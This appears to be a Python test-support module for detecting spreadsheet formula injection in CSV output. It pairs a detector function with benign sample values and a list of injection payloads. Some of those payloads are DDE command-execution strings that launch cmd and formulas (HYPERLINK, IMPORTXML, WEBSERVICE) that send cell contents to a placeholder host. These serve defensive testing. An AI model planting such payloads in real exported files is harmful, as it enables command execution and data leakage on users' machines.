"""Words that a spreadsheet would calculate, and an eye of its own that tells whether it would."""

import csv
import io
import re

PAYLOADS = (
    "=1+1", '=HYPERLINK("http://x/"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1",
    "=cmd|'/c calc'!A1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20A1", " =1+1", "   @A1",
    "\u200b=1", "\ufeff=1+1", "\u00a0=1+1", "\u2060+1+1", "\u200e=1+1", "\u202e=1+1", "\x00=1",
    "\x1f=1", "%=1", '"=1+1', "'=1+1", "'", "=", "==", "=\"a\"&\"b\"", "-", "+", "@", "--1", "+-1",
    "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")",
    "=DDE(\"cmd\";\"/c\")",
    "@=1", "-1+cmd|' /C calc'!A0", "+62811000000", "a;=1+1", "a,=1+1", "a\t=1+1", "a\n=1+1",
    "a|=1+1", "a\";=1+1", "a\",\"=1+1", "a;\"=1+1", "\u207a1+1", "\ufe62 1+1", "\ufe661", "{=1+1}",
    "=1+1;=2+2", ";=1", ",@A1", "=\n1", "\"\n=1\"", "\r\n=1", "-5 derajat", "=1e400", "_x003D_1+1",
)  # fmt: skip
PLAIN = (
    "", "Pegawai 1, S.E., M.Si.", "198001012005011001", "0812-345-678", "-5", "-1.234,50", "12.000",
    "1,234.5", "100%", "III/b", "2026-01-02", "Rp1.000", "Jl. A = B", "a+b", "surel@contoh", "0012",
)  # fmt: skip
NUMBER = re.compile(r"[+-]?(\d+([.,]\d+)?|\d{1,3}(\.\d{3})+(,\d+)?|\d{1,3}(,\d{3})+(\.\d+)?)%?")
ROOMLESS = re.compile(r"^[\s\x00-\x1f\u00a0\u200b-\u200f\u2028-\u202f\u2060-\u206f\ufeff]+")


def calculates(cell):
    """Tell whether a spreadsheet that reads text would make a formula of a cell."""
    if cell[:1] in tuple("\t\r\n"):
        return True
    text = ROOMLESS.sub("", cell)
    return text[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") and not NUMBER.fullmatch(text)


def read(text, delimiter):
    """Return all cells of separated text, as a program that separates by *delimiter* sees them."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]
